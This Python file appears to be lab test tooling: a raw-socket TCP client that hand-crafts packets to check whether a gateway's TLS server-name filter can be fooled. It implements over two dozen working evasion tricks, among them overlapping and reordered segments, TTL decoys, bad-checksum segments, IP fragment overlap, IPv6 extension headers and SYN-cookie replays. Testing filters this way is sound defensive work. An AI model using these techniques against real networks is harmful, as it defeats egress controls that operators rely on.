"""A client with raw sockets, as any pod with CAP_NET_RAW has: TCP that does not play by the rules.

Run inside the node: raw_client.py SOURCE DESTINATION PORT SOURCE_PORT TRICK ALLOWED_NAME OTHER_NAME
Tricks:
  ordinary       the allowed name's hello in one segment
  shuffled       the same in three segments, the last ones first
  repeated       the same segment three times
  syn-twice      the same behind a SYN that was sent and answered twice
  ttl            the same with a time to live that ends soon behind the gateway
  overlap        a hello in two segments that overlap and differ in what they share
  second-hello   the allowed name's hello, and at once the other name's in the same place
  bad-checksum   the allowed name's hello with a wrong checksum, then the other name's in the same place
  reset-between  the allowed name's hello, a reset out of the window, the other name's in the same place
  syn-data       the hello in the SYN
  decoy-ttl      the allowed name's hello with a time to live that ends behind the gateway, then the other's
  urgent         the allowed name's hello with an urgent byte, which the server takes out of the stream
  out-of-window  the other name's hello far behind and before the window, then in its place
  reset-first    a reset and the end of the stream that only the gateway sees, then the other name's hello
  second-syn     a second SYN that counts from elsewhere, the other name's hello behind that
  fragments      the other name's hello in IP fragments
  fragment-gap   the allowed name's hello in IP fragments, but those with its name came before with the other's
  honest-gap     the allowed name's hello in IP fragments, some of them twice
  options        the other name's hello behind a header of destination options (IPv6)
  routing        the same behind a routing header that has nowhere left to go (IPv6)
  atomic         the same in a fragment that is the whole (IPv6)
  honest-options the allowed name's hello behind destination options (IPv6)
  multipath      the allowed name's hello, and an offer in the SYN to put the stream together in another order
Tricks after an answer to the allowed name's hello:
  syn-data-again the other name's hello in a SYN
  cookie-reset   a reset, and the other name's hello for a connection out of the first one's cookie (RFC 4987)
  cookie-end     the same after both ends have closed
  cookie-shift   SYNs that count from elsewhere, and a hello for the allowed name that holds the other name's, whole,
                 where the first one's stream begins
Prints how the far end answered: server-hello, alert, reset, silence.
The kernel of the node must be kept from answering with resets of its own (see test_evasion.py).
"""

import random
import socket
import struct
import sys
import time

from lab import tls_hello

FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
ETH_P_IP, ETH_P_IPV6 = 0x0800, 0x86DD
TTL_TO_UPLINK = 3
FRAGMENT_SIZE = 104  # of eights, and smaller than where the name is
NAME_FRAGMENTS = (1, 2)
TCP_HEADER = 20
MORE_FRAGMENTS = 0x2000
ROUTING, FRAGMENT, DESTINATION_OPTIONS = 43, 44, 60  # IPv6's headers (RFC 8200 section 4)
PAD = bytes([1, 4, 0, 0, 0, 0])  # an option that says nothing
MULTIPATH_CAPABLE = bytes([30, 4, 0x01, 0x81])  # version 1, no checksums (RFC 8684 section 3.1)
PRIVATE_EXTENSION = 0xFF42
DRAINING = 20

AGAIN = ("syn-data-again", "cookie-reset", "cookie-end")


def checksum(data):
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class RawConnection:
    """One TCP connection, spoken by hand."""

    def __init__(self, source, destination, port, source_port):
        self.family = socket.AF_INET6 if ":" in destination else socket.AF_INET
        self.source, self.destination = (socket.inet_pton(self.family, a) for a in (source, destination))
        self.ports = (source_port, port)
        self.sequence = random.Random(source_port).randrange(1 << 31)  # of the first byte of data
        self.acknowledged = 0
        self.identity = source_port  # of fragments
        self._out = socket.socket(self.family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        kind = ETH_P_IP if self.family == socket.AF_INET else ETH_P_IPV6
        self._in = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(kind))
        self._in.settimeout(0.2)

    def segment(self, flags, payload=b"", *, offset=0, wrong_checksum=False, urgent=0, options=b""):
        """The bytes of a TCP segment; `offset` counts from the first byte of data."""
        tcp = struct.pack("!HHIIBBHHH", *self.ports, (self.sequence + offset) & 0xFFFFFFFF,
                          self.acknowledged, 5 + len(options) // 4 << 4, flags, 64000, 0, urgent) + options
        pseudo = self.source + self.destination + struct.pack("!II", len(tcp) + len(payload),
                                                              socket.IPPROTO_TCP)
        value = checksum(pseudo + tcp + payload) ^ (0x5555 if wrong_checksum else 0)
        return tcp[:16] + value.to_bytes(2, "big") + tcp[18:] + payload

    def send_body(self, body, *, ttl=64, protocol=socket.IPPROTO_TCP, fragment=0x4000):
        """Sends an IP packet; `fragment`: IPv4's flags and offset."""
        if self.family == socket.AF_INET:
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), self.identity & 0xFFFF, fragment,
                                 ttl, protocol, 0, self.source, self.destination)
        else:
            header = struct.pack("!IHBB16s16s", 6 << 28, len(body), protocol, ttl, self.source,
                                 self.destination)
        self._out.sendto(header + body, (socket.inet_ntop(self.family, self.destination), 0))

    def send(self, flags, payload=b"", *, ttl=64, **how):
        """Sends one segment."""
        self.send_body(self.segment(flags, payload, **how), ttl=ttl)

    def send_fragments(self, body, *, only=None):
        """The segment in IP fragments; of `only` these, counted from 0."""
        pieces = [body[i:i + FRAGMENT_SIZE] for i in range(0, len(body), FRAGMENT_SIZE)]
        for number, piece in enumerate(pieces):
            if only is not None and number not in only:
                continue
            more, at = number + 1 < len(pieces), number * FRAGMENT_SIZE
            if self.family == socket.AF_INET:
                self.send_body(piece, fragment=(MORE_FRAGMENTS if more else 0) | at // 8)
            else:
                header = struct.pack("!BBHI", socket.IPPROTO_TCP, 0, at | more, self.identity)
                self.send_body(header + piece, protocol=FRAGMENT)

    def send_behind(self, kind, header, body):
        """The segment behind an IPv6 extension header (without the next header's number)."""
        self.send_body(bytes([socket.IPPROTO_TCP]) + header + body, protocol=kind)

    def _take(self, packet):
        """The TCP segment in a packet of the far end, or None."""
        if self.family == socket.AF_INET:
            header = (packet[0] & 15) * 4
            protocol, source, end = packet[9], packet[12:16], int.from_bytes(packet[2:4], "big")
        else:
            header = 40
            protocol, source, end = packet[6], packet[8:24], 40 + int.from_bytes(packet[4:6], "big")
        tcp = packet[header:end]
        if protocol != socket.IPPROTO_TCP or source != self.destination \
                or struct.unpack("!HH", tcp[:4]) != self.ports[::-1]:
            return None
        return tcp

    def receive(self, seconds):
        """The next segment of this connection: (flags, sequence, payload), or None."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            try:
                tcp = self._take(self._in.recv(65535))
            except TimeoutError:
                continue
            if tcp is not None:
                return tcp[13], int.from_bytes(tcp[4:8], "big"), tcp[(tcp[12] >> 4) * 4:]
        return None

    def open(self, payload=b"", options=b"", acknowledges=True):
        """The handshake; True when the far end answered the SYN."""
        self.send(SYN, payload, offset=-1, options=options)
        answer = self.receive(1.5)
        if answer is None or answer[0] & (SYN | RST) != SYN:
            return False
        self.acknowledged = (answer[1] + 1) & 0xFFFFFFFF
        if acknowledges:
            self.send(ACK)
        return True

    def close(self, offset):
        """Ends the stream behind `offset`, takes the far end's, and acknowledges it."""
        self.send(FIN | ACK, offset=offset)
        while (segment := self.receive(1.5)) is not None:
            flags, sequence, payload = segment
            self.acknowledged = (sequence + len(payload) + (flags & FIN)) & 0xFFFFFFFF
            self.send(ACK, offset=offset + 1)
            if flags & FIN:
                break

    def answer(self, seconds=2.0):
        """How the far end answers the hello."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            segment = self.receive(until - time.monotonic())
            if segment is None:
                break
            flags, _, payload = segment
            if flags & RST:
                return "reset"
            if payload[:1] == bytes([tls_hello.HANDSHAKE_RECORD]):
                return "server-hello"
            if payload[:1] == bytes([tls_hello.ALERT_RECORD]):
                return "alert"
        return "silence"


def play(connection, trick, allowed, other):
    """Sends the data of a trick over an open connection. Both hellos have the same length."""
    push = PSH | ACK
    if trick in ("ordinary", "multipath"):
        connection.send(push, allowed)
    elif trick == "shuffled":
        third = len(allowed) // 3
        for start, end in ((2 * third, None), (third, 2 * third), (0, third)):
            connection.send(push, allowed[start:end], offset=start)
    elif trick == "repeated":
        for _ in range(3):
            connection.send(push, allowed)
    elif trick == "syn-twice":
        connection.send(SYN, offset=-1)
        time.sleep(0.1)
        connection.send(push, allowed)
    elif trick == "ttl":
        connection.send(push, allowed, ttl=TTL_TO_UPLINK)
    elif trick == "overlap":
        half = len(allowed) // 2
        connection.send(push, allowed[:half])
        connection.send(push, other)
    elif trick == "second-hello":
        connection.send(push, allowed)
        connection.send(push, other)
    elif trick == "bad-checksum":
        connection.send(push, allowed, wrong_checksum=True)
        connection.send(push, other)
    elif trick == "reset-between":
        connection.send(push, allowed, ttl=1)
        connection.send(RST, offset=1 << 20)
        connection.send(push, other)
    elif trick == "decoy-ttl":
        connection.send(push, allowed, ttl=TTL_TO_UPLINK)
        connection.send(push, other)
    elif trick == "urgent":
        connection.send(push | URG, allowed, urgent=len(allowed) // 2)
    elif trick == "out-of-window":
        for offset in (1 << 20, -len(other) - 1, -len(other) // 2, 0):
            connection.send(push, other, offset=offset)
    elif trick == "reset-first":
        connection.send(RST | ACK, ttl=1)
        connection.send(FIN | ACK, ttl=1)
        connection.send(push, other)
    elif trick == "second-syn":
        connection.sequence += 1 << 20
        connection.send(SYN, offset=-1)
        connection.send(ACK)
        connection.send(push, other)
    else:
        play_below(connection, trick, allowed, other)


def with_name_of(allowed, other):
    """The allowed name's hello with the other name, in just the fragments that NAME_FRAGMENTS says."""
    start, end = (number * FRAGMENT_SIZE - TCP_HEADER for number in (NAME_FRAGMENTS[0], NAME_FRAGMENTS[-1] + 1))
    return allowed[:start] + other[start:end] + allowed[end:]


def play_below(connection, trick, allowed_hello, other_hello):
    """The tricks of IP: a whole segment each."""
    allowed, other = (connection.segment(PSH | ACK, hello) for hello in (allowed_hello, other_hello))
    if trick == "fragments":
        connection.send_fragments(other)
    elif trick == "fragment-gap":  # who keeps what came first, as Linux does, has a segment that is right
        first = connection.segment(PSH | ACK, with_name_of(allowed_hello, other_hello))
        connection.send_fragments(first, only=NAME_FRAGMENTS)
        connection.send_fragments(first[:TCP_HEADER] + allowed[TCP_HEADER:])
    elif trick == "honest-gap":
        connection.send_fragments(allowed, only=NAME_FRAGMENTS)
        connection.send_fragments(allowed)
    elif trick == "options":
        connection.send_behind(DESTINATION_OPTIONS, b"\0" + PAD, other)
    elif trick == "routing":
        connection.send_behind(ROUTING, bytes([0, 4, 0, 0, 0, 0, 0]), other)
    elif trick == "atomic":
        connection.send_behind(FRAGMENT, bytes([0, 0, 0]) + connection.identity.to_bytes(4, "big"), other)
    elif trick == "honest-options":
        connection.send_behind(DESTINATION_OPTIONS, b"\0" + PAD, allowed)


def play_again(connection, trick, allowed, other):
    """The tricks after an answer; how the far end answers the other name's hello."""
    first_acknowledged = connection.acknowledged
    connection.send(PSH | ACK, allowed)
    if connection.answer() != "server-hello":
        return "nothing to play on"
    if trick == "syn-data-again":
        connection.send(SYN, other, offset=1 << 16)
        return connection.answer(0.5)
    if trick == "cookie-reset":
        connection.send(RST, offset=len(allowed))
    else:
        connection.close(len(allowed))
    connection.acknowledged = first_acknowledged
    connection.send(ACK)
    connection.send(PSH | ACK, other)
    return connection.answer(0.5)


def play_shifted(connection, allowed_name, other_name):
    """The trick `cookie-shift`. The far end's answers must be slow: the next SYN overtakes the last one's."""
    inner = tls_hello.records_of(tls_hello.message_of(tls_hello.client_hello(other_name)), 1 << 14)
    outer = tls_hello.message_of(tls_hello.client_hello(allowed_name))
    outer = tls_hello.records_of(tls_hello.with_extension(outer, PRIVATE_EXTENSION, inner), 1 << 14)
    shift = outer.index(inner)
    for number in range(DRAINING):  # what the bottleneck lets through at once
        other = RawConnection(socket.inet_ntop(connection.family, connection.source),
                              socket.inet_ntop(connection.family, connection.destination),
                              connection.ports[1], connection.ports[0] + 1 + number)
        other.send(SYN, offset=-1)
    if not connection.open(acknowledges=False):
        return "silence"
    for offset in (1 << 16, -shift):
        connection.send(SYN, offset=offset - 1)
    time.sleep(0.5)
    connection.send(ACK)
    connection.send(PSH | ACK, outer, offset=-shift)
    return connection.answer(5)


def hellos(allowed_name, other_name):
    """A hello for each name, of one length."""
    allowed, other = (tls_hello.message_of(tls_hello.client_hello(name))
                      for name in (allowed_name, other_name))
    size = max(len(allowed), len(other)) + 64
    allowed, other = (tls_hello.padded(message, size) for message in (allowed, other))
    return tls_hello.records_of(allowed, 1 << 14), tls_hello.records_of(other, 1 << 14)


def main(source, destination, port, source_port, trick, allowed_name, other_name):
    connection = RawConnection(source, destination, int(port), int(source_port))
    if trick == "cookie-shift":
        return play_shifted(connection, allowed_name, other_name)
    allowed, other = hellos(allowed_name, other_name)
    if not connection.open(allowed if trick == "syn-data" else b"",
                           MULTIPATH_CAPABLE if trick == "multipath" else b""):
        return "silence"
    if trick in AGAIN:
        return play_again(connection, trick, allowed, other)
    if trick == "syn-data":
        connection.send(PSH | ACK, allowed)
    play(connection, trick, allowed, other)
    answer = connection.answer()
    connection.send(RST, offset=len(allowed))
    return answer


if __name__ == "__main__":
    print(main(*sys.argv[1:]))
